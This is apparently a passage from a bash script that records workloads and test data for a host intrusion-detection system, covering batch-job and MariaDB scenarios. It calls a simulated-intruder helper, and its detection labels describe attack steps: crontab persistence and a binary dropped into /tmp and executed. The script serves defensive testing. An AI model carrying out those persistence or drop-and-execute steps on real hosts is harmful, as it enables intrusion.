# writes a checksum manifest of the day's totals (`sha256sum` into out/<day>/MANIFEST). The
# maintenance, in the middle, by an operator inside the cgroup (as backup): the rotated logs
# tested (`gzip -t`), the manifest checked (`sha256sum -c --quiet`), `cleanup.sh
# --max-archives 9`. The late event: the release rolled back (process.sh.prev renamed over
# process.sh), then a run.
batch_heldout12_deploy() { :; }
batch_heldout12_mix() {
  local r=$HELDOUT12_ROUND
  case $((r % 4)) in
    0) batch_feed ledger 1 $((8 * HELDOUT12_CONC)) ;;
    1) batch_heldout11_drop "ledger-header-$r" 'NR == 1 { print "customer,amount" } { print }' ;;
    2) batch_heldout11_drop "ledger-crlf-$r" 'BEGIN { ORS = "\r\n" } { print }' ;;
    3) batch_feed ledger 1 5000 ;;
  esac
  batch_job process.sh --keep 7
}
batch_heldout12_change() {
  local p=$BATCH_DIR/bin/process.sh
  cp -p "$p" "$p.prev"
  awk '{ print } $0 == "echo \"$(date -u +%FT%TZ) done files=$n\" >>\"$log\"" {
      print "[ \"$n\" -eq 0 ] || sha256sum \"$base/out/$day\"/*.totals >\"$base/out/$day/MANIFEST\"" }' "$p" >"$p.new"
  chmod 755 "$p.new"
  mv "$p.new" "$p"
  grep -q MANIFEST "$p" || die "batch heldout12: process.sh not changed"
}
batch_heldout12_maint() {
  local manifest
  manifest=$BATCH_DIR/out/$(date +%Y%m%d)/MANIFEST
  [ -e "$manifest" ] || die "batch heldout12: no manifest"
  admin batch backup /bin/gzip -t "$BATCH_DIR"/log/job.log.*.gz
  admin batch backup /usr/bin/sha256sum -c --quiet "$manifest"
  admin batch backup /bin/sh "$BATCH_DIR/bin/cleanup.sh" --max-archives 9
}
batch_heldout12_late() {
  mv "$BATCH_DIR/bin/process.sh.prev" "$BATCH_DIR/bin/process.sh"
  batch_feed ledger 1 120
  batch_job process.sh --keep 7
}

# Held out, thirteenth set (heldout13). No deploy. Each run with `--keep 5` gets, in turn, a
# `meter-N` file (15 rows per unit of load), a 3-row `meter` file, an 80-row `meter` file with
# every field quoted, or an 80-row `meter` file whose last line has no line end; once the
# change is in, the cron entry passes the day explicitly (`--day YYYYMMDD`) and keeps two
# inputs (`--keep 2`). The maintenance, at the very start, by an operator inside the cgroup
# (as backup): `du -s` of the spool and `ls -l` of the job's logs. The restart, in the
# middle: the scheduler restarted (no daemon of the job's own to restart: one period passes
# with no run). The change, late: the cron entry's new arguments.
batch_heldout13_deploy() { :; }
BATCH_HELDOUT13_ARGS=(--keep 5)
batch_heldout13_mix() {
  local r=$HELDOUT13_ROUND
  case $((r % 4)) in
    0) batch_feed meter 1 $((15 * HELDOUT13_CONC)) ;;
    1) batch_feed meter 1 3 ;;
    2) batch_heldout11_drop "meter-quoted-$r" '{ gsub(/[^,]+/, "\"&\""); print }' ;;
    3) batch_heldout11_drop "meter-noeol-$r" 'BEGIN { ORS = "" } NR > 1 { print "\n" } { print }' ;;
  esac
  batch_job process.sh "${BATCH_HELDOUT13_ARGS[@]}"
}
batch_heldout13_maint() {
  admin batch backup /usr/bin/du -s "$BATCH_SPOOL"
  admin batch backup /bin/ls -l "$BATCH_DIR/log"
}
batch_heldout13_restart() { sleep 3; }
batch_heldout13_change() { BATCH_HELDOUT13_ARGS=(--day "$(date +%Y%m%d)" --keep 2); }

# Held out, fourteenth set (heldout14). No deploy. Each run with `--keep 4` gets a `sales-N`
# file of 25 rows per unit of load and, once the change is in, a `sales-v2-N` file of 80 rows
# in the upstream's new format (two more columns: a currency and a date; the job reads the
# first two). The change, early: the upstream system's new feed format. The maintenance, in
# the middle while the runs go on, by the operator inside the cgroup (as backup): a backup of
# the outputs to a new file (`tar -czf backup/out-<time>.tar.gz out`). The reload, late: the
# scheduler reads its table again, in which the job now keeps six logs (`--keep 6`). The
# tail: the upstream trickles, a 5-row file and a run every ~4 s.
batch_heldout14_deploy() { BATCH_HELDOUT14_V2=0 BATCH_HELDOUT14_ARGS=(--keep 4); }
BATCH_HELDOUT14_V2=0
BATCH_HELDOUT14_ARGS=(--keep 4)
batch_heldout14_mix() {
  local r=$HELDOUT14_ROUND
  batch_feed sales 1 $((25 * HELDOUT14_CONC))
  [ "$BATCH_HELDOUT14_V2" = 0 ] || batch_heldout11_drop "sales-v2-$r" "{ print \$0 \",EUR,$(date +%F)\" }"
  batch_job process.sh "${BATCH_HELDOUT14_ARGS[@]}"
}
batch_heldout14_change() { BATCH_HELDOUT14_V2=1; }
batch_heldout14_maint() {
  install -d -o backup -g backup "$BATCH_DIR/backup"
  admin batch backup /bin/tar -czf "$BATCH_DIR/backup/out-$(date +%H%M%S).tar.gz" -C "$BATCH_DIR" out
}
batch_heldout14_reload() { BATCH_HELDOUT14_ARGS=(--keep 6); }
batch_heldout14_tail() {
  local end=$((SECONDS + $1))
  while [ "$SECONDS" -lt "$end" ]; do
    batch_feed sales 1 5
    batch_job process.sh "${BATCH_HELDOUT14_ARGS[@]}"
    sleep 4
  done
}

# Held out, fifteenth set (heldout15). No deploy. Each run with `--keep 5` gets, in turn, an
# `invoices-N` file of 30 rows per unit of load, a 1-row file, a 20000-row file, an empty
# file, another `invoices-N` file, or two `credits-N` files of 40 rows. The maintenance,
# first, while the runs go on: the job's clean-up with other arguments, all archives but the
# newest purged (`cleanup.sh --max-archives 1`). The restart, in the middle: the scheduler
# stopped for 5 s while the upstream drops two files, then started (the next run takes the
# backlog). The change, last: a release of `process.sh` (root, from outside) that writes its
# totals into `reports/<day>/` instead of `out/<day>/` (a renamed output directory).
batch_heldout15_deploy() { :; }
batch_heldout15_mix() {
  local r=$HELDOUT15_ROUND
  case $((r % 6)) in
    0 | 4) batch_feed invoices 1 $((30 * HELDOUT15_CONC)) ;;
    1) batch_feed invoices 1 1 ;;
    2) batch_feed invoices 1 20000 ;;
    3) install -m 644 -o backup -g backup /dev/null "$BATCH_SPOOL/incoming/invoices-empty-$r.csv" ;;
    5) batch_feed credits 2 40 ;;
  esac
  batch_job process.sh --keep 5
}
batch_heldout15_maint() { batch_job cleanup.sh --max-archives 1; }
batch_heldout15_restart() { batch_feed invoices 2 50; sleep 5; }
batch_heldout15_change() {
  local p=$BATCH_DIR/bin/process.sh
  install -d -o backup -g backup "$BATCH_DIR/reports"
  sed 's|/out/|/reports/|g' "$p" >"$p.new"
  grep -qF "/reports/\$day" "$p.new" || die "batch heldout15: the release was not written"
  chmod 755 "$p.new"
  mv "$p.new" "$p"
}

# Held out, sixteenth set (heldout16). No deploy. A run per round (in the quiet start each
# 3 s with one small file) that gets as many `sales-N` files of 40 rows per connection's
# worth of load as the load; one more file in turn: a file whose name is in UTF-8
# (`ventes-café-N.csv`), the same file delivered again under its old name (a replay by the
# upstream), a file with Windows line endings, a file with a header line, a file whose name
# is 150 characters long, a file of 3 rows. The change, early: a release of `process.sh`
# (root, from outside, renamed into place) that marks each day's outputs complete
# (`out/<day>/_SUCCESS`). The second change, two thirds in: the log's retention shortened
# (the runs with `--keep 2`, so the older generations are deleted). The maintenance, last:
# the day's outputs exported into a new directory (`export/out-<day>.tar`, tar as backup
# inside the cgroup). Then the scheduler stopped (nothing runs).
BATCH_HELDOUT16_ARGS=()
batch_heldout16_deploy() { BATCH_HELDOUT16_ARGS=(); }
batch_heldout16_mix() {
  local r=$HELDOUT16_ROUND f
  batch_feed sales "$HELDOUT16_CONC" 40
  case $((r % 6)) in
    0) batch_feed "ventes-café" 1 40 ;;
    1) f=$BATCH_SPOOL/incoming/daily-summary.csv
       printf 'c001,10\nc002,20\n' >"$f" && chown backup:backup "$f" ;;
    2) f=$BATCH_SPOOL/incoming/windows-$r.csv
       printf 'c010,5\r\nc011,7\r\n' >"$f" && chown backup:backup "$f" ;;
    3) f=$BATCH_SPOOL/incoming/header-$r.csv
       printf 'customer,amount\nc020,3\n' >"$f" && chown backup:backup "$f" ;;
    4) batch_feed "sales-$(printf 'x%.0s' $(seq 1 140))" 1 10 ;;
    5) batch_feed sales 1 3 ;;
  esac
  batch_job process.sh "${BATCH_HELDOUT16_ARGS[@]}"
}
batch_heldout16_change() {
  local p=$BATCH_DIR/bin/process.sh
  sed 's|^echo "$(date -u +%FT%TZ) done files=$n" >>"$log"$|touch "$base/out/$day/_SUCCESS"\n&|' "$p" >"$p.new"
  grep -q '_SUCCESS' "$p.new" || die "batch heldout16: the release was not written"
  chmod 755 "$p.new"
  mv "$p.new" "$p"
}
batch_heldout16_second() { BATCH_HELDOUT16_ARGS=(--keep 2); }
batch_heldout16_maint() {
  install -d -o backup -g backup "$BATCH_DIR/export"
  admin batch backup /bin/tar -cf "$BATCH_DIR/export/out-$(date +%Y%m%d).tar" -C "$BATCH_DIR/out" .
}

# Held out, seventeenth set (heldout17). No deploy. A cold start under load: the recording
# begins with the scheduler down (the host back from an outage) while the upstream already
# delivers: getting no receipt, it delivers the same `pending.csv` again each round (renamed
# over the one waiting), and the scheduler is back 2 s in (heldout17_begin), whose first run
# takes the backlog. Then a run per round that gets `orders-N` files as the slow wave's load
# goes (one per three units of load, plus one, of 20 rows per unit); one more delivery in
# turn: names in mixed case and percent-encoded (`Orders-MiXeD-N.csv`,
# `orders%20export%2DN.csv`), a delivery abandoned half way (its
# hidden `.part` file left in incoming), eight upstream systems delivering at the same instant
# (and, once the change is in, two runs started at once, the second waiting for the first's
# lock), a file written in ten appends with pauses, twenty one-row files, a file with a byte
# order mark and numbers in uncommon but valid forms (a plus sign, leading zeros, an exponent,
# spaces around). The maintenance, early, by the
# operator inside the cgroup (as backup): the archives' and rotated logs' integrity tested
# (`gzip -t`). The change, in the middle, by a full restart of the scheduler (down for 2 s):
# its table now runs the job under a lock and at a lower priority (`flock -w 20
# run/process.lock nice -n 10 sh process.sh`, the lock's directory new). The maintenance,
# late, while the load falls: a manifest of the outputs written into a new dated file by
# `find -fprintf` (as backup inside the cgroup). The recording ends with runs still going on.
BATCH_HELDOUT17_WRAP=()
batch_heldout17_deploy() { BATCH_HELDOUT17_WRAP=(); }
# batch_heldout17_drop NAME TEXT: the upstream delivers TEXT (printf escapes) as NAME.
batch_heldout17_drop() {
  printf %b "$2" >"$BATCH_SPOOL/incoming/.$1.part"
  chown backup:backup "$BATCH_SPOOL/incoming/.$1.part"
  mv "$BATCH_SPOOL/incoming/.$1.part" "$BATCH_SPOOL/incoming/$1"
}
# batch_heldout17_run: one run of the job as the scheduler's table has it.
batch_heldout17_run() { admin batch backup "${BATCH_HELDOUT17_WRAP[@]}" /bin/sh "$BATCH_DIR/bin/process.sh" --keep 4; }
batch_heldout17_mix() {
  local r=$HELDOUT17_ROUND i f pids=() twin=
  if [ $((SECONDS - HELDOUT_T0)) -lt 2 ]; then
    batch_heldout17_drop pending.csv "c001,$r\nc002,$((r * 3))\n"
    return
  fi
  batch_feed orders $((HELDOUT17_CONC / 3 + 1)) $((20 * HELDOUT17_CONC))
  case $((r % 6)) in
    0) batch_heldout17_drop "Orders-MiXeD-$r.csv" 'c101,4\nC102,5\n'
       batch_heldout17_drop "orders%20export%2D$r.csv" 'c103,6\n' ;;
    1) f=$BATCH_SPOOL/incoming/.abandoned-$r.part
       printf 'c011,3\nc012,4\nc01' >"$f"
       chown backup:backup "$f" ;;
    2) for i in 1 2 3 4 5 6 7 8; do batch_feed "partner$i" 1 30 & pids+=($!); done
       wait "${pids[@]}"
       if [ "${#BATCH_HELDOUT17_WRAP[@]}" -gt 0 ]; then batch_heldout17_run & twin=$!; fi ;;
    3) f=$BATCH_SPOOL/incoming/.stream-$r.part
       install -m 644 -o backup -g backup /dev/null "$f"
       for i in $(seq 1 10); do printf 'c%03d,%d\n' $((i * 13 % 200)) "$i" >>"$f"; sleep 0.05; done
       mv "$f" "$BATCH_SPOOL/incoming/stream-$r.csv" ;;
    4) for i in $(seq 1 20); do batch_heldout17_drop "tiny-$r-$i.csv" "c$(printf %03d "$i"),1\n"; done ;;
    5) batch_heldout17_drop "signed-$r.csv" '\xef\xbb\xbfc201,+007\nc202,1e2\nc203, 0042 \n' ;;
  esac
  batch_heldout17_run
  [ -z "$twin" ] || wait "$twin"
}
batch_heldout17_early() {
  local f files=()
  for f in "$BATCH_SPOOL"/archive/*.tar.gz "$BATCH_DIR"/log/*.gz; do [ ! -e "$f" ] || files+=("$f"); done
  admin batch backup /bin/gzip -t "${files[@]}"
}
batch_heldout17_change() {
  batch_stop
  install -d -o backup -g backup "$BATCH_DIR/run"
  BATCH_HELDOUT17_WRAP=(/usr/bin/flock -w 20 "$BATCH_DIR/run/process.lock" /usr/bin/nice -n 10)
  sleep 2
  batch_start
}
batch_heldout17_late() {
  install -d -o backup -g backup "$BATCH_DIR/manifest"
  admin batch backup /usr/bin/find "$BATCH_DIR/out" -type f \
    -fprintf "$BATCH_DIR/manifest/out-$(date +%Y%m%d-%H%M%S).txt" '%P %s %TY-%Tm-%Td %TH:%TM\n'
}

batch_inject() { inject_shell batch backup "$BATCH_SPOOL" "$(batch_more)"; }
batch_labels() {
  write_labels batch "$BATCH_SPOOL" ",
  {\"kind\": \"exec\", \"subject\": \"*/crontab\", \"what\": \"crontab run by the service user\"},
  {\"kind\": \"file\", \"subject\": \"/var/spool/cron/crontabs/*\", \"what\": \"a crontab written for backup (persistence)\"},
  {\"kind\": \"file\", \"subject\": \"$DROPPER\", \"what\": \"the intruder writes a binary into /tmp\"},
  {\"kind\": \"exec\", \"subject\": \"$DROPPER\", \"what\": \"and runs it from there (drop and execute)\"},
  {\"kind\": \"exec\", \"subject\": \"*/cat\", \"required\": false, \"what\": \"the dropper is written with cat\"},
  {\"kind\": \"exec\", \"subject\": \"*/chmod\", \"required\": false, \"what\": \"and made executable with chmod\"},
  {\"kind\": \"file\", \"subject\": \"/usr/bin/uname\", \"required\": false, \"what\": \"the binary cat copies into the dropper\"},
  {\"kind\": \"file\", \"subject\": \"/etc/cron.allow\", \"required\": false, \"what\": \"crontab checks who may use it\"},
  {\"kind\": \"file\", \"subject\": \"/etc/cron.deny\", \"required\": false, \"what\": \"crontab checks who may use it\"}" shell-known
}


# --- mariadb ------------------------------------------------------------------------------

MARIADB_PORT=13306
MARIADB_RELAY_PORT=13310   # relays that give MariaDB clients other source addresses
MARIADB_DIR=$WORK/mariadb
MARIADB_DATA=$MARIADB_DIR/data
MARIADB_SOCK=$MARIADB_DIR/run/mysqld.sock

# MariaDB 10.11 (Debian mariadb-server): plain mariadbd (no mysqld_safe) run as mysql from its
# own config (my.cnf, root-owned, read alone: --defaults-file) and data directory (InnoDB
# per-table .ibd and .frm files, redo log, undo in ibdata1, Aria system tables), binary logs
# and the error log in log/, on-disk temporary tables in tmp/, its socket in run/. The
# application (the `mariadb` client, outside the cgroup) logs in as app over TCP; the DBA
# and the readiness check as root on the socket (unix_socket authentication).
mariadb_provision() {
  rm -rf "$MARIADB_DIR"
  mkdir -p "$MARIADB_DATA" "$MARIADB_DIR"/{run,log,tmp,backup}
  cat >"$MARIADB_DIR/my.cnf" <<CNF
[mariadbd]
datadir = $MARIADB_DATA
socket = $MARIADB_SOCK
pid-file = $MARIADB_DIR/run/mariadbd.pid
tmpdir = $MARIADB_DIR/tmp
bind-address = 127.0.0.1
port = $MARIADB_PORT
skip-name-resolve
log-error = $MARIADB_DIR/log/error.log
log-bin = $MARIADB_DIR/log/binlog
server-id = 1
max_connections = 40
innodb_buffer_pool_size = 32M
innodb_log_file_size = 16M
tmp_table_size = 1M
max_heap_table_size = 1M
CNF
  chmod 644 "$MARIADB_DIR/my.cnf"
  chown -R mysql:mysql "$MARIADB_DATA" "$MARIADB_DIR"/{run,log,tmp,backup}
  # (--user=mysql: the socket-authenticated account mysql@localhost, for the operator.)
  (cd / && setpriv --reuid=mysql --regid=mysql --init-groups mariadb-install-db \
    --defaults-file="$MARIADB_DIR/my.cnf" --user=mysql --skip-test-db \
    --auth-root-authentication-method=socket >/dev/null 2>&1) || die "mariadb-install-db failed"

  # A database that has been in use: the shop schema with customers, products, orders, and
  # the reviews and sessions mix B uses, analysed.
  mariadb_launch
  local pid=$LAUNCHED
  mariadb_root -e "CREATE USER app@'127.0.0.1'; GRANT ALL ON *.* TO app@'127.0.0.1';
    CREATE DATABASE shop; USE shop;
    CREATE TABLE customers (id INT PRIMARY KEY, name VARCHAR(80), email VARCHAR(120),
      created DATETIME DEFAULT NOW());
    CREATE TABLE products (id INT PRIMARY KEY, sku CHAR(12) UNIQUE, name VARCHAR(80),
      description TEXT, price DECIMAL(10,2), stock INT);
    CREATE TABLE orders (id INT AUTO_INCREMENT PRIMARY KEY, customer_id INT, product_id INT,
      qty INT, total DECIMAL(12,2), created DATETIME DEFAULT NOW(), KEY (customer_id));
    CREATE TABLE reviews (id INT AUTO_INCREMENT PRIMARY KEY, product_id INT, customer_id INT,
      stars TINYINT, body TEXT, KEY (product_id));
    CREATE TABLE sessions (token CHAR(32) PRIMARY KEY, customer_id INT, expires DATETIME);
    INSERT INTO customers (id, name, email)
      SELECT seq, CONCAT('customer ', seq), CONCAT('c', seq, '@example.com') FROM seq_1_to_2000;
    INSERT INTO products SELECT seq, CONCAT('SKU', LPAD(seq, 9, '0')), CONCAT('product ', seq),
      REPEAT('a fine product. ', 20), 1 + seq % 90, 1000 FROM seq_1_to_500;
    INSERT INTO orders (customer_id, product_id, qty, total)
      SELECT 1 + seq % 2000, 1 + seq % 500, 1 + seq % 3, (1 + seq % 3) * (1 + seq % 90)
      FROM seq_1_to_20000;
    INSERT INTO reviews (product_id, customer_id, stars, body)
      SELECT 1 + seq % 500, 1 + seq % 2000, 1 + seq % 5, 'good' FROM seq_1_to_3000;
    ANALYZE TABLE customers, products, orders, reviews, sessions;" >/dev/null
  stop_pid "$pid" TERM
}

mariadb_root() { mariadb --no-defaults -S "$MARIADB_SOCK" -u root "$@"; }
mariadb_ready() { mariadb-admin --no-defaults -S "$MARIADB_SOCK" -u root ping; }
MARIADB_PID=
mariadb_launch() {
  launch mariadb mysql /usr/sbin/mariadbd --defaults-file="$MARIADB_DIR/my.cnf"
  until_ok mariadb_ready
}
mariadb_start() {
  mariadb_launch
  MARIADB_PID=$LAUNCHED
}
mariadb_stop() { stop_pid "$MARIADB_PID" TERM; }

# mariadb_app [-P PORT] DB SQL: one application session over TCP (to the server, or to a
# relay on PORT).
mariadb_app() {
  local port=$MARIADB_PORT
  if [ "$1" = -P ]; then port=$2; shift 2; fi
  mariadb --no-defaults --protocol=tcp -h 127.0.0.1 -P "$port" -u app --skip-ssl -B \
    "$1" -e "$2" >/dev/null
}
# mariadb_wait PID...: waits for the clients; one that failed is reported, not fatal (the
# recording goes on).
mariadb_wait() {
  local p
  for p in "$@"; do wait "$p" || echo "record-testdata: a mariadb client failed" >&2; done
}

# A shopper's session: an order, the stock update, the order history, the profile.
mariadb_order_session() {
  local c=$((1 + RANDOM % 2000)) p=$((1 + RANDOM % 500))
  mariadb_app "$@" shop "UPDATE products SET stock = stock - 2 WHERE id = $p;
    INSERT INTO orders (customer_id, product_id, qty, total)
      SELECT $c, id, 2, price * 2 FROM products WHERE id = $p;
    SELECT o.id, o.total, p.name FROM orders o JOIN products p ON p.id = o.product_id
      WHERE o.customer_id = $c ORDER BY o.id DESC LIMIT 10;
    SELECT name, email FROM customers WHERE id = $c;"
}
# The best sellers, with their descriptions (a TEXT column: an on-disk temporary table).
mariadb_report() {
  mariadb_app shop "SELECT p.id, p.name, p.description, SUM(o.qty) FROM orders o
    JOIN products p ON p.id = o.product_id GROUP BY p.id ORDER BY 4 DESC LIMIT 5"
}
# Mix A: three shoppers' sessions at a time, twice, and the report.
mariadb_mix_a() {
  local r i pids
  for r in 1 2; do
    pids=()
    for i in 1 2 3; do mariadb_order_session & pids+=($!); done
    mariadb_wait "${pids[@]}"
  done
  mariadb_report
}
# Mix B: six clients at a time keep sessions and write reviews, then expired sessions are
# deleted, the catalog is read from information_schema, and the review report.
mariadb_mix_b() {
  local i pids=() c p
  for i in 1 2 3 4 5 6; do
    c=$((1 + RANDOM % 2000)) p=$((1 + RANDOM % 500))
    mariadb_app shop "INSERT INTO sessions VALUES (MD5(RAND()), $c, NOW() + INTERVAL 20 SECOND);
      INSERT INTO reviews (product_id, customer_id, stars, body) VALUES ($p, $c, $((1 + i % 5)), 'ok');
      SELECT AVG(stars), COUNT(*) FROM reviews WHERE product_id = $p;
      SELECT COUNT(*) FROM sessions WHERE expires > NOW();" &
    pids+=($!)
  done
  mariadb_wait "${pids[@]}"
  mariadb_app shop "DELETE FROM sessions WHERE expires < NOW();
    SELECT table_name, table_rows, data_length FROM information_schema.tables
      WHERE table_schema = 'shop';
    SELECT product_id, AVG(stars) a, COUNT(*) n FROM reviews GROUP BY product_id
      HAVING n > 3 ORDER BY a DESC LIMIT 10"
}
# Its scheduled job in training: the monitoring scrape.
mariadb_maintenance() {
  mariadb_app shop "SHOW GLOBAL STATUS; SHOW ENGINE INNODB STATUS; SHOW BINARY LOGS;
    SELECT * FROM information_schema.processlist"
}

# The generic intruder script as mysql in the data directory (an exploited server process
# executing a shell).
mariadb_inject() { inject_shell mariadb mysql "$MARIADB_DATA"; }
mariadb_labels() { write_labels mariadb "$MARIADB_DATA"; }

# Held out. The DBA (root on the socket) lets application servers on 127.0.0.0/24 in and
# creates a new database, inventory, with its tables; a bulk load of 30000 stock moves
# (LOAD DATA LOCAL INFILE from the client's CSV), then an index built on them. Each round
# three clients through relays (outside the cgroup) bound to 127.0.0.5, .9 and .17 record
# and sum stock moves, eight shoppers' sessions, and the report; every 20 s ANALYZE and
# OPTIMIZE TABLE, and a `mariadb-dump` of inventory into backup/ run as mysql inside the
# cgroup (the operator's backup).
mariadb_heldout_deploy() {
  start_relays "$MARIADB_PORT" "$MARIADB_RELAY_PORT" 127.0.0 5 9 17
  awk 'BEGIN { for (i = 1; i <= 30000; i++)
    printf "%d,SKU%09d,%d,2026-11-%02d 10:00:00\n", 1 + i % 4, 1 + i % 500, i % 7 - 3, 1 + i % 28 }' \
    >"$WORK/mariadb-moves.csv"
  mariadb_root -e "CREATE USER app@'127.0.0.%'; GRANT ALL ON *.* TO app@'127.0.0.%';
    CREATE DATABASE inventory; USE inventory;
    CREATE TABLE warehouses (id INT PRIMARY KEY, city VARCHAR(40));
    INSERT INTO warehouses VALUES (1, 'Lyon'), (2, 'Porto'), (3, 'Gdansk'), (4, 'Turin');
    CREATE TABLE stock_moves (id BIGINT AUTO_INCREMENT PRIMARY KEY, warehouse_id INT,
      sku CHAR(12), qty INT, moved_at DATETIME)"
  mariadb --no-defaults --protocol=tcp -h 127.0.0.1 -P "$MARIADB_PORT" -u app --skip-ssl \
    --local-infile=1 inventory -e "LOAD DATA LOCAL INFILE '$WORK/mariadb-moves.csv'
      INTO TABLE stock_moves FIELDS TERMINATED BY ',' (warehouse_id, sku, qty, moved_at);
    CREATE INDEX moves_sku ON stock_moves (sku, moved_at)"
}
mariadb_heldout_mix() {
  local a pids=() i
  for a in 5 9 17; do
    mariadb_app -P $((MARIADB_RELAY_PORT + a)) inventory "INSERT INTO stock_moves
        (warehouse_id, sku, qty, moved_at) VALUES ($((1 + RANDOM % 4)), 'SKU00000$((100 + RANDOM % 400))', 5, NOW());
      SELECT w.city, SUM(m.qty) FROM stock_moves m JOIN warehouses w ON w.id = m.warehouse_id
        WHERE m.sku = 'SKU00000$((100 + RANDOM % 400))' GROUP BY w.city" &
    pids+=($!)
  done
  for i in 1 2 3 4 5 6 7 8; do mariadb_order_session & pids+=($!); done
  mariadb_wait "${pids[@]}"
  mariadb_report
}
MARIADB_DUMPS=0
mariadb_heldout_job() {
  mariadb_app shop "ANALYZE TABLE inventory.stock_moves; OPTIMIZE TABLE shop.reviews"
  MARIADB_DUMPS=$((MARIADB_DUMPS + 1))
  admin mariadb mysql mariadb-dump --no-defaults -S "$MARIADB_SOCK" --single-transaction \
    --result-file="$MARIADB_DIR/backup/inventory-$MARIADB_DUMPS.sql" inventory
}

# Held out, fifth set (heldout5). Deployed before the start (the server started once
# outside the recording, as provisioning does): application servers on 127.0.3.0/24 let in
# (app@'127.0.3.%'), two relays (outside the cgroup) bound to 127.0.3.40 and .80, and a
# new database `analytics`: `page_views`, partitioned by month (RANGE COLUMNS: p2026_11,
# p2026_12, pmax), and `exports` (LONGBLOB). Each round: shoppers' sessions through .40
# (a third of the load, plus one), page views inserted through .80 (50 per request per
# connection) and a report over them (GROUP BY ... WITH ROLLUP); one more thing in turn: a
# syntax error, a duplicate key, a login as a user that does not exist, a 600 kB LONGBLOB
# sent by the client, a lock wait timeout (a session holds a row FOR UPDATE, another waits
# with innodb_lock_wait_timeout 1), a client killed during SELECT SLEEP(2). The change, by
# the DBA (root on the socket): the slow query log switched on (log/slow.log,
# long_query_time 0.2) and FLUSH BINARY LOGS (the next binlog generation). The maintenance,
# by the operator inside the cgroup as mysql: `mariadb-check --analyze shop` and
# `mariadb-admin flush-logs status`. The late event: mariadbd killed with SIGKILL (the OOM
# killer's way) and started again by its service manager (InnoDB crash recovery).
MARIADB_HELDOUT5_ADDRS=(40 80)
mariadb_heldout5_deploy() {
  start_relays "$MARIADB_PORT" "$MARIADB_RELAY_PORT" 127.0.3 "${MARIADB_HELDOUT5_ADDRS[@]}"
  mariadb_launch
  local pid=$LAUNCHED
  mariadb_root -e "CREATE USER app@'127.0.3.%'; GRANT ALL ON *.* TO app@'127.0.3.%';
    CREATE DATABASE analytics; USE analytics;
    CREATE TABLE page_views (id BIGINT AUTO_INCREMENT, day DATE NOT NULL, path VARCHAR(200), ms INT,
      PRIMARY KEY (id, day)) PARTITION BY RANGE COLUMNS (day) (PARTITION p2026_11 VALUES LESS THAN ('2026-12-01'),
      PARTITION p2026_12 VALUES LESS THAN ('2027-01-01'), PARTITION pmax VALUES LESS THAN (MAXVALUE));
    CREATE TABLE exports (id INT AUTO_INCREMENT PRIMARY KEY, name VARCHAR(80), body LONGBLOB);"
  stop_pid "$pid" TERM
}
mariadb_heldout5_mix() {
  local r=$HELDOUT5_ROUND i pids=() p40=$((MARIADB_RELAY_PORT + 40)) p80=$((MARIADB_RELAY_PORT + 80))
  local cli=(mariadb --no-defaults --protocol=tcp -h 127.0.0.1 -P "$p80" --skip-ssl -B)
  for i in $(seq 1 $((HELDOUT5_CONC / 3 + 1))); do mariadb_order_session -P "$p40" & pids+=($!); done
  mariadb_app -P "$p80" analytics "INSERT INTO page_views (day, path, ms) SELECT CURDATE() - INTERVAL (seq % 40) DAY,
      CONCAT('/p/', seq % 97), seq % 800 FROM seq_1_to_$((50 * HELDOUT5_PER));
    SELECT DATE_FORMAT(day, '%Y-%m') m, path, COUNT(*), AVG(ms) FROM page_views GROUP BY m, path WITH ROLLUP LIMIT 20" &
  pids+=($!)
  mariadb_wait "${pids[@]}"
  pids=()
  case $((r % 6)) in
    0) "${cli[@]}" -u app shop -e "SELEC 1" ;;
    1) "${cli[@]}" -u app shop -e "INSERT INTO customers (id, name) VALUES (1, 'dup')" ;;
    2) "${cli[@]}" -u reporting shop -e "SELECT 1" ;;
    3) printf "INSERT INTO exports (name, body) VALUES ('export-%s.csv', '%s');\n" "$r" "$(head -c 600000 /dev/zero | tr '\0' y)" |
         "${cli[@]}" -u app analytics ;;
    4) "${cli[@]}" -u app shop -e "BEGIN; SELECT * FROM products WHERE id = 7 FOR UPDATE; DO SLEEP(1.5); COMMIT" &
       pids+=($!)
       sleep 0.2
       "${cli[@]}" -u app shop -e "SET innodb_lock_wait_timeout = 1; UPDATE products SET stock = stock - 1 WHERE id = 7" ;;
    5) timeout -s KILL 0.5 "${cli[@]}" -u app shop -e "SELECT SLEEP(2)" ;;
  esac >/dev/null 2>&1 || true
  for i in "${pids[@]}"; do wait "$i" 2>/dev/null || true; done
}
mariadb_heldout5_change() {
  mariadb_root -e "SET GLOBAL slow_query_log_file = '$MARIADB_DIR/log/slow.log'; SET GLOBAL long_query_time = 0.2;
    SET GLOBAL slow_query_log = ON; FLUSH BINARY LOGS"
}
mariadb_heldout5_maint() {
  admin mariadb mysql mariadb-check --no-defaults -S "$MARIADB_SOCK" --analyze shop
  admin mariadb mysql mariadb-admin --no-defaults -S "$MARIADB_SOCK" flush-logs status
}
mariadb_heldout5_late() {
  kill -KILL "$MARIADB_PID"
  wait "$MARIADB_PID" 2>/dev/null || true
  forget "$MARIADB_PID"
  mariadb_start
}
mariadb_heldout5_probe() {
  mariadb-admin --no-defaults --protocol=tcp -h 127.0.0.1 -P $((MARIADB_RELAY_PORT + 40)) -u app --skip-ssl ping \
    >/dev/null 2>&1 || true
}
# Held out, sixth set (heldout6). Deployed before the start (the server started once
# outside the recording, as provisioning does): application servers on 127.0.4.0/24 let in
# (app@'127.0.4.%'), two relays (outside the cgroup) bound to 127.0.4.44 and .88, and a new
# table shop.coupons (5000 codes). Each round: shoppers' sessions through .44 (a quarter of
# the load, plus one, up to 8); through .88 a coupon redeemed in a transaction and a search
# of the products by name (LIKE); one more thing in turn: a login with a wrong password, a
# table that does not exist, a 1 MB review body, 5000 coupons inserted in one statement, a
# transaction rolled back. The change, by the DBA (root on the socket): max_connections
# raised, the InnoDB buffer pool resized online (32 MB to 64 MB), FLUSH STATUS. The
# maintenance, by the operator inside the cgroup as mysql: `mariadb-show --status shop`,
# ANALYZE TABLE shop.coupons PERSISTENT FOR ALL (engine-independent statistics) with
# CHECKSUM TABLE, and `mariadb-admin extended-status`. The late event: a long query of the application killed by the DBA
# (KILL QUERY).
MARIADB_HELDOUT6_ADDRS=(44 88)
mariadb_heldout6_deploy() {
  start_relays "$MARIADB_PORT" "$MARIADB_RELAY_PORT" 127.0.4 "${MARIADB_HELDOUT6_ADDRS[@]}"
  mariadb_launch
  local pid=$LAUNCHED
  mariadb_root -e "CREATE USER app@'127.0.4.%'; GRANT ALL ON *.* TO app@'127.0.4.%';
